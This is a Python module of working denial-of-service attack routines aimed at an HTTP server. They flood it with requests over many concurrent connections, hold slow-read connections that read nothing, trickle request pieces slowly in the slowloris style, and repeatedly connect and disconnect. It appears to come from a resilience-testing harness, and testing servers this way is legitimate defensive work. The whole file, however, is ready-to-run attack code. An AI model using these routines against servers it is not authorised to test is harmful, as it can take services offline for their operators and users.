"""Open an attacker's connections, which send requests, read nothing, send slowly or disconnect until the time is up."""

from __future__ import annotations

import asyncio
import socket
from collections import Counter
from collections.abc import Callable, Coroutine, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import cycle
from typing import Any
from urllib.parse import urlsplit

SMALL_BUFFER = 1024
"""The size in bytes of the receive buffer of a connection that reads nothing."""
ESTABLISHED = 1
"""The value for an open connection in the first byte of the socket option TCP_INFO."""
PAUSE = 0.2
"""The number of seconds that pass between a refused connection and the next attempt."""


@dataclass
class Tally:
    """The result of an attack: the numbers of its connections and of the answers."""

    opened: int = 0
    refused: int = 0
    """The number of connections that the server did not accept."""
    closed: int = 0
    """The number of connections that the server closed."""
    answers: Counter[str] = field(default_factory=Counter)
    """The number of answers for each status."""


@dataclass
class Attacker:
    """An attacker: the URL that it attacks, its source address, the end of the attack, and its tally."""

    url: str
    source: str
    end: float
    """The time at which the attack ends, by the clock of the event loop."""
    tally: Tally = field(default_factory=Tally)

    def goes_on(self) -> bool:
        """Return whether the attack has time left."""
        return asyncio.get_running_loop().time() < self.end

    async def open(self, receive_buffer: int = 0) -> socket.socket | None:
        """Return a new connection. If the server accepts none, wait for PAUSE seconds and return None."""
        target = urlsplit(self.url)
        connection = socket.socket()
        connection.setblocking(False)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            connection.bind((self.source, 0))
            await asyncio.wait_for(
                asyncio.get_running_loop().sock_connect(connection, (target.hostname, target.port)), 5
            )
        except OSError:  # this includes TimeoutError
            connection.close()
            self.tally.refused += 1
            await asyncio.sleep(PAUSE)
            return None
        except asyncio.CancelledError:
            connection.close()
            raise
        self.tally.opened += 1
        return connection

    async def repeat(self, connections: int, use: Callable[[Attacker], Coroutine[Any, Any, None]]) -> None:
        """Run `connections` tasks at once, each of which calls `use` again and again until the time is up."""

        async def repeat_use(number: int) -> None:
            await asyncio.sleep(min(1.0, number / 1000))  # a thousand tasks start evenly within a second
            while self.goes_on():
                with suppress(OSError):
                    await use(self)

        tasks = [asyncio.create_task(repeat_use(number)) for number in range(connections)]
        _, unfinished = await asyncio.wait(tasks, timeout=self.end - asyncio.get_running_loop().time())
        for task in unfinished:
            task.cancel()
        await asyncio.gather(*unfinished, return_exceptions=True)


async def send(connection: socket.socket, data: bytes) -> None:
    """Send the data completely, in several pieces if necessary."""
    await asyncio.get_running_loop().sock_sendall(connection, data)


async def read_to_end(connection: socket.socket) -> bytes:
    """Read until the server closes the connection, and return the first bytes, which contain the status."""
    first = b""
    while data := await asyncio.get_running_loop().sock_recv(connection, 2**18):
        first = first if len(first) > 12 else first + data[:100]
    return first


async def ask(attacker: Attacker, requests: Sequence[bytes], at_once: int) -> None:
    """Send the requests repeatedly, each over a new connection, and read the answers."""
    next_request: Iterator[bytes] = cycle(requests)

    async def use(attacker: Attacker) -> None:
        connection = await attacker.open()
        if connection is None:
            return
        with connection:
            await send(connection, next(next_request))
            answer = await read_to_end(connection)
            attacker.tally.answers[answer[9:12].decode("latin-1") or "none"] += 1

    await attacker.repeat(at_once, use)


async def read_nothing(attacker: Attacker, data: bytes, connections: int, read_a_second: int = 0) -> None:
    """Send data and read nothing of the answer, or `read_a_second` bytes a second; reconnect when the server closes."""

    async def use(attacker: Attacker) -> None:
        connection = await attacker.open(SMALL_BUFFER)
        if connection is None:
            return
        with connection:
            sending = asyncio.create_task(send(connection, data))
            while is_open(connection) and not (sending.done() and sending.exception()):
                await asyncio.sleep(1)
                if read_a_second and not read_some(connection, read_a_second):
                    break
            sending.cancel()
            attacker.tally.closed += 1

    await attacker.repeat(connections, use)


def is_open(connection: socket.socket) -> bool:
    """Return whether the connection is open as far as the operating system knows."""
    return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == ESTABLISHED


def read_some(connection: socket.socket, size: int) -> bool:
    """Read what has arrived, at most `size` bytes, and return whether the connection is still open."""
    try:
        return connection.recv(size) != b""
    except BlockingIOError:
        return True


async def trickle(
    attacker: Attacker, start: bytes, pieces: Sequence[bytes], every: float, connections: int, shut: bool = False
) -> None:
    """Send `start`, then a piece every `every` seconds; with `shut`, close the sending half after `start`."""
    next_piece = cycle(pieces) if pieces else None

    async def use(attacker: Attacker) -> None:
        connection = await attacker.open()
        if connection is None:
            return
        with connection:
            await send(connection, start)
            if shut:
                connection.shutdown(socket.SHUT_WR)
            while read_some(connection, 2**16):
                await asyncio.sleep(every)
                if next_piece:
                    await send(connection, next(next_piece))
            attacker.tally.closed += 1

    await attacker.repeat(connections, use)


async def disconnect(attacker: Attacker, data: bytes, at_once: int, after: float = 0.0) -> None:
    """Connect, send data and disconnect `after` seconds later without reading, repeatedly."""

    async def use(attacker: Attacker) -> None:
        connection = await attacker.open()
        if connection is None:
            return
        with connection:
            await send(connection, data)
            await asyncio.sleep(after)

    await attacker.repeat(at_once, use)
